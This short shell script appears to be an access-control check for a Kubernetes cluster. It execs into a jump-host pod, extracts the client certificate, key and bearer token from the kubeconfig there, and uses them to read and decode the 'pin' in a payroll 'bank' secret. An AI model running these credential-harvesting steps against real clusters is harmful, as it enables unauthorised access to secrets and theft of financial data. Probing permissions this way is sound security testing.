# Somebody on the jump host, with the kubeconfig that lies there. Exit 0: it reads what is
# none of the shop's business.
kubectl -n dev exec -i jump-0 -- sh <<'POD'
F=/home/dev/.kube/config
d=$(mktemp -d)
u() { yq -r ".users[0].user[\"$1\"] // \"\"" $F; }
u client-certificate-data | base64 -d > $d/c
u client-key-data | base64 -d > $d/k
token=$(u token)
file=$(u tokenFile)
[ -z "$file" ] || token=$(cat $file)
ask() {
  if [ -s $d/c ]; then curl -sk --cert $d/c --key $d/k "$@"; else curl -sk -H "Authorization: Bearer $token" "$@"; fi
}
code() { ask -o /dev/null -w '%{http_code}\n' "$@"; }
api=https://kubernetes.default.svc
ask $api/api/v1/namespaces/payroll/secrets/bank | jq -r '.data.pin // empty | @base64d' | grep .
POD
